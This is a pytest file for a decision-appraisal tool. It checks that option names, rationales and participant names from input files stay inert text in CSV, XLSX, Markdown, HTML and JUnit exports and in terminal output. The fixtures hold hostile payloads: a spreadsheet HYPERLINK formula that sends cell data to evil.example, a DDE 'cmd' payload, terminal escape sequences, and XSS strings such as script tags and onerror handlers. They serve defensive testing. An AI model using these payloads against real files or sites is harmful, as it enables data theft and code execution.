"""Text from a file is data wherever it lands: never a formula in a spreadsheet, never an instruction to a
terminal or Rich markup, never a heading, row or tag in Markdown and HTML."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from openpyxl import load_workbook

from appraisal.io import load_appraisal
from appraisal.io.importer import import_to
from appraisal.reports.export import export

from .conftest import REPO, run_cli

CRITERIA = REPO / "criteria" / "birmingham-2013.toml"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1", "＝1+1"]
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
NAMES = FORMULAS[:4] + FORMULAS[6:]  # names are stripped as they load: a leading tab or CR cannot survive
MARKUP = "[link=http://evil.example]Trust[/link] [/] [bold]x :smile:"


def hostile_file(folder: Path, names: list[str], *, rationale: str = "", participant: str = "") -> Path:
    """The bundled appraisal with these option names (and a rationale, a participant) in a folder of its own."""
    shutil.copytree(REPO / "criteria", folder / "criteria", dirs_exist_ok=True)
    (folder / "scenarios").mkdir(exist_ok=True)
    text = (REPO / "scenarios" / "birmingham-2013.toml").read_text(encoding="utf-8")
    import json

    for old, new in zip(["Break up Birmingham", "Outsource to the private sector", "Trust Model - accountable to DfE",
                         "Trust Model - accountable to BCC", "Integrated transformation"], names):
        text = text.replace(f'name = "{old}"', f"name = {json.dumps(new)}", 1)
    if rationale:
        text = text.replace('rationale = "Does not address any of the cultural issues"', f"rationale = {json.dumps(rationale)}", 1)
    if participant:
        text += f'\n[[participants]]\nname = {json.dumps(participant)}\nweights = {{ outcomes = 5 }}\n\n[[participants]]\nname = "Other"\nweights = {{ speed = 5 }}\n'
    path = folder / "scenarios" / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


# --- spreadsheets ----------------------------------------------------------------------------------

def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _live(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")


@pytest.mark.parametrize("fmt", ["csv", "csv-long"])
def test_csv_text_cells_are_never_formulas(tmp_path, fmt):
    path = hostile_file(tmp_path, NAMES, rationale="=1+1 rationale")
    a = load_appraisal(path)
    export(a, tmp_path / "out.csv", fmt)
    rows = _csv(tmp_path / "out.csv")
    texts = [c for row in rows for c in row if not re.fullmatch(r"-?[0-9.]+|", c)]  # numbers stay numbers
    assert not [c for c in texts if _live(c)]
    assert sum(c.startswith("'=HYPERLINK") for c in texts) >= 1
    if fmt == "csv":
        assert rows[0][5:] == ["'" + n for n in NAMES]


def test_rank_csv_names_are_never_formulas(tmp_path):
    r = run_cli("rank", str(hostile_file(tmp_path, NAMES)), "--format", "csv")
    names = [row[2] for row in csv.reader(io.StringIO(r.stdout))][1:]
    assert sorted(names) == sorted("'" + n for n in NAMES)


def test_xlsx_text_cells_are_text_and_only_our_formulas_are_live(tmp_path):
    path = hostile_file(tmp_path, FORMULAS[:4] + ["Integrated\x1b[2J \x00 \x0b x"], rationale="=1+1\x1b rationale")
    a = load_appraisal(path)
    export(a, tmp_path / "out.xlsx", samples=50)  # a control character no longer crashes openpyxl
    wb = load_workbook(tmp_path / "out.xlsx")
    ws = wb["Scores"]
    names = [ws.cell(1, c).value for c in range(6, 16, 2)]
    assert names[:4] == FORMULAS[:4]  # the text itself, unchanged ...
    assert all(ws.cell(1, c).data_type == "s" and ws.cell(1, c).quotePrefix for c in range(6, 14, 2))  # ... and text
    assert names[4] == "Integrated\u241b[2J \u2400 \u240b x"  # control characters shown as symbols
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert sheet.title == "Scores" and re.match(r"=(IF|IFERROR|SUMIF|SUMPRODUCT|[F-Z]+\d+/)", cell.value), (sheet.title, cell.value)
    rationale = [r for r in wb["Rationale"].iter_rows(values_only=True) if r[5] and "rationale" in r[5]]
    assert rationale and rationale[0][5] == "=1+1\u241b rationale"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_then_export_does_not_launder_a_formula(tmp_path, fmt):
    """An attacker's sheet with formula-like names, imported, then exported: still text, never live."""
    path = hostile_file(tmp_path, NAMES)
    export(load_appraisal(path), tmp_path / f"sheet.{fmt}", samples=50)
    imported = import_to(tmp_path / f"sheet.{fmt}", tmp_path / "imported.toml", CRITERIA)
    assert [o.name for o in imported.options] == NAMES  # the neutralisation is undone on the way in ...
    export(load_appraisal(tmp_path / "imported.toml"), tmp_path / "again.csv")
    assert _csv(tmp_path / "again.csv")[0][5:] == ["'" + n for n in NAMES]  # ... and done again on the way out
    export(load_appraisal(tmp_path / "imported.toml"), tmp_path / "again.xlsx", samples=50)
    ws = load_workbook(tmp_path / "again.xlsx")["Scores"]
    assert all(ws.cell(1, c).data_type == "s" for c in range(6, 16, 2))


def test_a_live_formula_in_an_officers_workbook_is_imported_as_text(tmp_path):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["Criterion", "Weight", '=HYPERLINK("http://evil.example","A")', "B"])
    for c in load_appraisal(REPO / "scenarios" / "birmingham-2013.toml").criteria:
        ws.append([c.name, 1, 3, 4])
    wb.save(tmp_path / "officer.xlsx")
    import_to(tmp_path / "officer.xlsx", tmp_path / "imported.toml", CRITERIA)
    export(load_appraisal(tmp_path / "imported.toml"), tmp_path / "out.csv")
    assert _csv(tmp_path / "out.csv")[0][5] == "'" + '=HYPERLINK("http://evil.example","A")'


# --- terminals -------------------------------------------------------------------------------------

COMMANDS = [["rank"], ["validate"], ["sensitivity", "--samples", "50"], ["group", "--samples", "50"], ["replay"],
            ["rank", "--format", "markdown"]]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c[:3]))
@pytest.mark.parametrize("colour", [False, True], ids=["plain", "colour"])
def test_no_escape_sequence_or_markup_from_a_file_reaches_the_terminal(tmp_path, command, colour):
    names = [f"Break{ESCAPES}", MARKUP, "[/]", "Trust\u202eCBB", "Integrated\x7f"]
    path = hostile_file(tmp_path, names, participant=f"Ann{ESCAPES}[/]")
    env = {**os.environ, "COLUMNS": "200"}
    env.pop("NO_COLOR", None)
    if colour:
        env["FORCE_COLOR"] = "1"
    else:
        env["NO_COLOR"] = "1"
        env.pop("FORCE_COLOR", None)
    r = subprocess.run([sys.executable, "-m", "appraisal", command[0], str(path), *command[1:]], capture_output=True, text=True, env=env)
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr and "MarkupError" not in r.stderr
    out = r.stdout + r.stderr
    assert "\x1b]" not in out and "\x07" not in out and "\x1b[2J" not in out and "\x9b" not in out and "\u202e" not in out
    if not colour:
        assert "\x1b" not in out
    if command[0] in ("rank", "replay") and "--format" not in command:
        assert "[link=http://evil.example]Trust[/link]" in out or command[0] == "replay"
        assert "[/]" in out or command[0] == "replay"
    if command == ["rank"]:
        assert "Break\u241b]0;pwned\u2407" in out  # shown, not obeyed


def test_data_formats_on_a_terminal_show_control_characters(tmp_path, monkeypatch, capsys):
    """csv and json are written as they are to a file or a pipe; on a terminal, shown like everything else."""
    from appraisal import cli

    path = hostile_file(tmp_path, [f"Break{ESCAPES}", "B", "C", "D", "E"])
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    for fmt in ("csv", "json"):
        assert cli.main(["rank", str(path), "--format", fmt]) == 0
        out = capsys.readouterr().out
        assert "Break" in out and not re.search("[\x1b\x07\x9b]", out)


def test_error_lines_show_control_characters(tmp_path, capsys):
    from appraisal import cli

    bad = tmp_path / "bad.toml"
    bad.write_text('[scenario]\ntitle = "x"\nbase = "no\\u001b]0;pwned\\u0007where.toml"\n', encoding="utf-8")
    assert cli.main(["rank", str(bad)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and "\u241b]0;pwned\u2407" in err


def test_terminal_text_is_visible():
    from appraisal.reports.safe_text import visible

    assert visible("a\x1b[2Jb\nc\x7f\x9b\u202e") == "a\u241b[2Jb\u240ac\u2421<U+009B><U+202E>"


# --- Markdown and HTML ----------------------------------------------------------------------------

def test_markdown_names_cannot_forge_headings_rows_or_html(tmp_path):
    names = ["A\n# Forged heading", "B | forged | row", "<script>alert(1)</script>", "#hash", "[x](javascript:alert(1))"]
    a = load_appraisal(hostile_file(tmp_path, names))
    export(a, tmp_path / "out.md")
    text = (tmp_path / "out.md").read_text(encoding="utf-8")
    assert [line for line in text.splitlines() if line.startswith("#")] == [f"# {a.title}", "## Scores", "## Rankings"]
    assert not re.search(r"(?<!\\)<script", text) and not re.search(r"(?<!\\)\]\(javascript", text)
    for line in text.splitlines():
        if line.startswith("|"):  # every row has its columns: no pipe from a name splits a cell
            assert len(re.findall(r"(?<!\\)\|", line)) in (8 + 1, 7 + 1), line  # the matrix; the rankings


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[str] = []
        self.text: list[str] = []

    def handle_data(self, data):
        self.text.append(data)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [v or "" for _, v in attrs]


def test_html_escapes_every_interpolation(tmp_path):
    evil = '"><script>alert(1)</script><x y="'
    path = hostile_file(tmp_path, [evil, "B' onmouseover='alert(1)", "<img src=x onerror=alert(1)>", "D & E", "E"], rationale=evil)
    a = load_appraisal(path)
    a = a.model_copy(update={"title": evil, "provenance": a.provenance.model_copy(update={"document": evil, "appendix": evil, "date": evil})})
    export(a, tmp_path / "out.html", samples=50)
    parser = _Tags()
    parser.feed((tmp_path / "out.html").read_text(encoding="utf-8"))
    assert "script" not in parser.tags and "img" not in parser.tags and "x" not in parser.tags
    assert evil in "".join(parser.text)  # the rationale, printed as text, whole


def test_junit_xml_stays_xml_whatever_the_scenarios_hold(tmp_path):
    from xml.etree import ElementTree as ET

    path = hostile_file(tmp_path, NAMES)
    bad = tmp_path / "scenarios" / "bad\x1b.toml"
    bad.write_text('[scenario]\ntitle = "x\\u001b"\nbase = "hostile.toml"\n\n[[steps]]\naction = "exclude"\noption = "no\\u001b\\u0000pe"\n', encoding="utf-8")
    r = run_cli("replay", str(path), str(bad), "--junit", str(tmp_path / "j.xml"))
    assert r.returncode == 2 and "Traceback" not in r.stderr
    errors = [e.text for e in ET.parse(tmp_path / "j.xml").iter("error")]  # parses: no raw control characters
    assert len(errors) == 1 and "bad\u241b.toml" in errors[0]
